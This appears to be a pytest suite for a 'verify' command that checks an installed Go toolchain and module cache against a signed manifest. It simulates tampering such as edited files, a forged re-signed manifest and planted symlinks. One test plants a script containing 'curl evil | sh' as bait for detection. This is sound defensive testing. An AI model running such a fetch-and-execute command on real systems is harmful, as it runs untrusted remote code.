"""`verify`: an installed GOROOT, P/goproxy and a rebuilt module cache against the signed manifest
they came from. Each test damages an installed tree the way a person, a disk or an attacker
would, and checks that verify names exactly that path and exits 3; a clean prefix exits 0."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any, Dict, Iterator, List, Tuple

import pytest

from keys import sshkey
from manifests.dirhash import hash_gomod
from tests.support import bundles, tamper
from tests.support.damaged import (
    MOD_FILE,
    MOD_PATH,
    MOD_SOURCE,
    MOD_VERSION,
    TC,
    edit,
    rescue,
    toolchain_bundle,
)
from tests.support.users import STOCK_PYTHON, USERS, User, make_user, remove_user_dirs


@pytest.fixture
def installed(prefix: Path, tmp_path: Path, signing: bundles.Signing,
              capsys: pytest.CaptureFixture[str]) -> Path:
    bundle = toolchain_bundle(tmp_path / "dc.tar.zst", signing.key)
    code, _, err = rescue(capsys, "install", bundle, "--prefix", prefix, "--trust",
                          signing.signers, "--modcache-dir", tmp_path / "modcache")
    assert code == 0, err
    return prefix / "versions" / TC


def verify(capsys: pytest.CaptureFixture[str], prefix: Path, signing: bundles.Signing,
           *args: Any) -> Tuple[int, Dict[str, Any], str]:
    return rescue(capsys, "verify", *args, "--prefix", prefix, "--trust", signing.signers,
                  "--json")


def paths(doc: Dict[str, Any], kind: str) -> List[str]:
    return [x["path"] for x in doc["verify"][kind]]


def test_clean_install_verifies_with_every_file_hashed(
        installed: Path, prefix: Path, tmp_path: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    code, doc, err = verify(capsys, prefix, signing, "--modcache", tmp_path / "modcache")
    assert code == 0, err
    v = doc["verify"]
    assert doc["ok"] and v["toolchains"] == [TC]
    assert (v["changed"], v["missing"], v["added"], v["unreadable"]) == ([], [], [], [])
    assert v["bundles"][0]["name"] == "dc" and v["bundles"][0]["sequence"] == 1
    assert v["files"] >= 9  # 6 GOROOT files (go.env recomputed) + 4 proxy files
    assert (prefix / "state" / "bundles" / f"{v['bundles'][0]['manifest_sha256']}.sig"
            ).read_bytes().startswith(b"-----BEGIN SSH SIGNATURE-----")


def test_changed_source_file_is_named_with_both_hashes(
        installed: Path, prefix: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    edit(installed / "src/fmt/print.go", b"package fmt\n// evil\n")
    code, doc, err = verify(capsys, prefix, signing)
    assert code == 3 and doc["error"]["type"] == "untrusted"
    [changed] = doc["verify"]["changed"]
    assert changed["path"] == f"versions/{TC}/src/fmt/print.go"
    assert changed["sha256"][0] == hashlib.sha256(b"package fmt\n\nfunc Println() {}\n"
                                                  ).hexdigest()
    assert "dc #1 (manifest sha256 " in doc["error"]["message"]  # the bundle that can repair
    assert f"versions/{TC}/src/fmt/print.go" in err


def test_deleted_tool_is_named_missing(installed: Path, prefix: Path, signing: bundles.Signing,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    edit(installed / "pkg/tool/linux_amd64/vet")
    code, doc, _ = verify(capsys, prefix, signing)
    assert code == 3
    assert paths(doc, "missing") == [f"versions/{TC}/pkg/tool/linux_amd64/vet"]
    assert paths(doc, "changed") == [] and paths(doc, "added") == []


def test_added_executable_is_an_error_of_its_own(installed: Path, prefix: Path,
                                                 signing: bundles.Signing,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    (installed / "bin").chmod(0o755)
    (installed / "bin" / "go-helper").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    (installed / "bin" / "go-helper").chmod(0o755)
    (installed / "src" / "fmt").chmod(0o755)
    (installed / "src" / "fmt" / "notes.txt").write_text("harmless\n")
    code, doc, err = verify(capsys, prefix, signing)
    assert code == 3
    added = {a["path"]: a for a in doc["verify"]["added"]}
    assert added[f"versions/{TC}/bin/go-helper"]["executable"] is True
    assert "executable" not in added[f"versions/{TC}/src/fmt/notes.txt"]
    assert "1 executable(s) that no bundle installed" in doc["error"]["message"]
    # Making room for the additions changed two directories' modes: named too.
    assert sorted(paths(doc, "changed")) == [f"versions/{TC}/bin", f"versions/{TC}/src/fmt"]


def test_mode_change_is_named_against_the_installers_modes(
        installed: Path, prefix: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    os.chmod(installed / "src/fmt/print.go", 0o666)  # the manifest said 0644; installed 0444
    os.chmod(installed / "bin/gofmt", 0o4755)  # a hard link: the target's 0555 expected
    code, doc, _ = verify(capsys, prefix, signing)
    assert code == 3
    changed = {c["path"]: c for c in doc["verify"]["changed"]}
    assert changed[f"versions/{TC}/src/fmt/print.go"]["mode"] == ["0444", "0666"]
    assert changed[f"versions/{TC}/bin/gofmt"]["mode"] == ["0555", "4755"]
    # Same inode: the vet the link points at changed mode with it.
    assert changed[f"versions/{TC}/pkg/tool/linux_amd64/vet"]["mode"] == ["0555", "4755"]
    assert all("sha256" not in c for c in changed.values())


def test_changed_go_env_is_caught_against_the_recomputed_wiring(
        installed: Path, prefix: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    go_env = installed / "go.env"
    text = go_env.read_text()
    assert "GOSUMDB=off" in text
    edit(go_env, text.replace("GOSUMDB=off", "GOSUMDB=sum.golang.org"))
    code, doc, _ = verify(capsys, prefix, signing)
    assert code == 3
    [changed] = doc["verify"]["changed"]
    assert changed["path"] == f"versions/{TC}/go.env"
    assert "GOSUMDB=sum.golang.org" in changed["go_env"][1]


def test_setting_slipped_into_go_env_above_the_wiring_is_caught(
        installed: Path, prefix: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    go_env = installed / "go.env"
    lines = go_env.read_text().splitlines()
    lines.insert(3, "GOFLAGS=-mod=mod")
    edit(go_env, "\n".join(lines) + "\n")
    code, doc, _ = verify(capsys, prefix, signing)
    assert code == 3 and paths(doc, "changed") == [f"versions/{TC}/go.env"]


def test_changed_module_mod_fails_sha256_and_go_sum_h1(
        installed: Path, prefix: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    mod = prefix / "goproxy" / MOD_PATH / "@v" / f"{MOD_VERSION}.mod"
    edit(mod, MOD_FILE + b"require evil.example/x v1.0.0\n")
    code, doc, err = verify(capsys, prefix, signing)
    assert code == 3
    [changed] = doc["verify"]["changed"]
    assert changed["path"] == f"goproxy/{MOD_PATH}/@v/{MOD_VERSION}.mod"
    assert changed["h1"][0] == hash_gomod(MOD_FILE) and changed["h1"][1] != changed["h1"][0]
    assert "sha256" in changed


def test_proxy_list_may_grow_but_not_lose_a_bundles_version(
        installed: Path, prefix: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    listing = prefix / "goproxy" / MOD_PATH / "@v" / "list"
    edit(listing, f"{MOD_VERSION}\nv1.1.0\n")  # another bundle's union: fine
    assert verify(capsys, prefix, signing)[0] == 0
    edit(listing, "v1.1.0\n")
    code, doc, _ = verify(capsys, prefix, signing)
    assert code == 3 and doc["verify"]["changed"][0]["versions"] == [[MOD_VERSION], ["v1.1.0"]]


def test_edited_kept_manifest_is_refused(installed: Path, prefix: Path,
                                         signing: bundles.Signing,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    [kept] = (prefix / "state" / "bundles").glob("*.json")
    doc = json.loads(kept.read_bytes())
    doc["members"] = [m for m in doc["members"] if not m["path"].endswith("/vet")
                      and not m["path"].endswith("/gofmt")]
    kept.write_bytes(tamper.canonical(doc))
    code, out, _ = verify(capsys, prefix, signing)
    assert code == 3 and out["error"]["security_error"]
    assert "was changed after install" in out["error"]["message"]


def test_re_signed_kept_manifest_is_refused(installed: Path, prefix: Path, tmp_path: Path,
                                            signing: bundles.Signing,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    """An attacker who can write the prefix edits the manifest to hide a swapped `vet`, signs
    it with a key of their own and points installed.json at it."""
    [kept] = (prefix / "state" / "bundles").glob("*.json")
    doc = json.loads(kept.read_bytes())
    evil = b"\x7fELF evil vet\n"
    for m in doc["members"]:
        if m["path"].endswith("/vet"):
            m["sha256"], m["size"] = hashlib.sha256(evil).hexdigest(), len(evil)
    data = tamper.canonical(doc)
    sha = hashlib.sha256(data).hexdigest()
    sshkey.generate_keypair(tmp_path / "mallory", comment="mallory")
    (prefix / "state" / "bundles" / f"{sha}.json").write_bytes(data)
    (prefix / "state" / "bundles" / f"{sha}.sig").write_bytes(
        tamper.resign(data, tmp_path / "mallory"))
    state_file = prefix / "state" / "installed.json"
    st = json.loads(state_file.read_text())
    st["bundles"][0]["manifest_sha256"] = sha
    state_file.write_text(json.dumps(st))
    edit(installed / "pkg/tool/linux_amd64/vet", evil)
    code, out, _ = verify(capsys, prefix, signing)
    assert code == 3
    assert "fails the signature check" in out["error"]["message"]
    assert "not in the trust store" in out["error"]["message"]


def test_all_checks_every_installed_version_and_names_the_damaged_one(
        prefix: Path, tmp_path: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    for seq, version in ((1, "go1.21.12"), (2, "go1.21.13")):
        bundle = toolchain_bundle(tmp_path / f"{version}.tar.zst", signing.key, version, seq,
                                  modules=seq == 2)
        assert rescue(capsys, "install", bundle, "--prefix", prefix, "--trust",
                      signing.signers)[0] == 0
    old = prefix / "versions" / "go1.21.12.linux-amd64"
    edit(old / "VERSION", "go1.99\n")
    code, doc, _ = verify(capsys, prefix, signing)  # the current one: 1.21.13, intact
    assert code == 0 and doc["verify"]["toolchains"] == [TC]
    code, doc, _ = verify(capsys, prefix, signing, "--all")
    assert code == 3
    assert doc["verify"]["toolchains"] == ["go1.21.12.linux-amd64", TC]
    assert paths(doc, "changed") == ["versions/go1.21.12.linux-amd64/VERSION"]
    assert doc["verify"]["changed"][0]["bundle"].startswith("dc #1 (manifest sha256 ")
    code, doc, _ = verify(capsys, prefix, signing, "1.21.12")
    assert code == 3 and doc["verify"]["toolchains"] == ["go1.21.12.linux-amd64"]


def test_module_cache_zip_ziphash_and_extracted_tree_are_checked(
        installed: Path, prefix: Path, tmp_path: Path, signing: bundles.Signing,
        capsys: pytest.CaptureFixture[str]) -> None:
    cache = tmp_path / "modcache"
    source = cache / f"{MOD_PATH}@{MOD_VERSION}" / "m.go"
    edit(source, MOD_SOURCE + b"func Backdoor() {}\n")
    ziphash = cache / "cache/download" / MOD_PATH / "@v" / f"{MOD_VERSION}.ziphash"
    edit(ziphash, "h1:forged=")
    code, doc, _ = verify(capsys, prefix, signing, "--modcache", cache)
    assert code == 3
    changed = {c["path"]: c for c in doc["verify"]["changed"]}
    assert set(changed) == {str(source.parent), str(source), str(ziphash)}
    assert changed[str(ziphash)]["h1"][1] == "h1:forged="
    code, doc, _ = verify(capsys, prefix, signing)  # without --modcache: the prefix is fine
    assert code == 0


def test_machine_problems_exit_2(prefix: Path, installed: Path, signing: bundles.Signing,
                                 tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, doc, _ = verify(capsys, tmp_path / "nowhere", signing)
    assert code == 2 and "no such prefix" in doc["error"]["message"]
    [sig] = (prefix / "state" / "bundles").glob("*.sig")
    sig.unlink()  # as a prefix installed by an older rescue
    code, doc, _ = verify(capsys, prefix, signing)
    assert code == 2 and "Install that same bundle again" in doc["error"]["message"]


# --- end to end: the real Go 1.21.13, `python3 -I rescue.pyz`, root and uid 65534 -----------

@pytest.fixture(params=USERS)
def user(request: pytest.FixtureRequest) -> Iterator[User]:
    u = make_user(request.param)
    yield u
    remove_user_dirs(u)


def test_real_goroot_verify_names_deleted_vet_and_edited_print_go_for_every_user(
        user: User, pyz: Path, toolchain_bundle: Path) -> None:
    rescue_cmd = [STOCK_PYTHON, "-I", str(user.give(pyz))]
    bundle = user.give(toolchain_bundle)
    prefix = user.home / "go-emergency"
    done = user.run([*rescue_cmd, "install", str(bundle), "--prefix", str(prefix)],
                    offline=True)
    assert done.returncode == 0, done.stderr
    clean = user.run([*rescue_cmd, "verify", "--prefix", str(prefix), "--json"], offline=True)
    assert clean.returncode == 0, clean.stderr
    assert json.loads(clean.stdout)["verify"]["files"] > 9000
    goroot = prefix / "versions" / TC
    # The issue's own reproduction, done as the user: chmod u+w first, then damage.
    script = (f"chmod u+w {goroot}/pkg/tool/linux_amd64 {goroot}/src/fmt/print.go && "
              f"rm {goroot}/pkg/tool/linux_amd64/vet && "
              f"echo '// edited' >> {goroot}/src/fmt/print.go && "
              f"chmod u-w {goroot}/pkg/tool/linux_amd64 {goroot}/src/fmt/print.go")
    assert user.run(["sh", "-c", script]).returncode == 0
    done = user.run([*rescue_cmd, "verify", "--prefix", str(prefix), "--json"], offline=True)
    assert done.returncode == 3, done.stderr
    doc = json.loads(done.stdout)
    assert paths(doc, "missing") == [f"versions/{TC}/pkg/tool/linux_amd64/vet"]
    assert paths(doc, "changed") == [f"versions/{TC}/src/fmt/print.go"]
    assert doc["error"]["type"] == "untrusted" and "rescue-test #1" in doc["error"]["message"]
    text = user.run([*rescue_cmd, "verify", "--prefix", str(prefix)], offline=True)
    assert text.returncode == 3
    assert f"missing  versions/{TC}/pkg/tool/linux_amd64/vet" in text.stdout
    assert f"changed  versions/{TC}/src/fmt/print.go: sha256 " in text.stdout
    assert "\r" not in text.stderr  # no progress bar when stderr is not a terminal


def _replace_current(prefix: Path, tmp_path: Path, how: str) -> None:
    """P/current made to point elsewhere, as a hand edit, a bad script or an attacker would."""
    current = prefix / "current"
    current.unlink()
    if how == "outside":
        outside = tmp_path / "elsewhere" / "go"
        outside.mkdir(parents=True)
        current.symlink_to(outside)
    elif how == "planted":  # a link in versions/ that looks like a toolchain, to another tree
        (tmp_path / "evil").mkdir()
        (prefix / "versions").chmod(0o755)
        (prefix / "versions" / "go1.21.99.linux-amd64").symlink_to(tmp_path / "evil")
        current.symlink_to("versions/go1.21.99.linux-amd64")
    elif how == "dangling":
        current.symlink_to("versions/go1.99.0.linux-amd64")
    else:
        current.symlink_to("current")  # a loop


CURRENT_PROBLEMS = {
    "outside": "it points to '{outside}', not to versions/<an installed toolchain>",
    "planted": "it points to 'versions/go1.21.99.linux-amd64', which is not installed",
    "dangling": "it points to 'versions/go1.99.0.linux-amd64', which is not installed",
    "loop": "it points to 'current', not to versions/<an installed toolchain>",
}


@pytest.mark.parametrize("how", sorted(CURRENT_PROBLEMS))
@pytest.mark.parametrize("command", [["verify"], ["verify", "--all"], ["repair"]])
def test_verify_and_repair_name_a_current_link_that_is_not_an_installed_toolchain(
        how: str, command: List[str], installed: Path, prefix: Path, tmp_path: Path,
        signing: bundles.Signing, capsys: pytest.CaptureFixture[str]) -> None:
    _replace_current(prefix, tmp_path, how)
    code, doc, err = rescue(capsys, *command, "--prefix", prefix, "--trust", signing.signers,
                            "--json")
    problem = CURRENT_PROBLEMS[how].format(outside=tmp_path / "elsewhere" / "go")
    assert code == 2, err
    assert doc["error"]["message"] == (
        f"reading {prefix}/current: {problem}; make an installed toolchain current with `use "
        f"VERSION` (installed: {TC})")
    assert "repair" not in doc and "verify" not in doc  # nothing was checked or changed
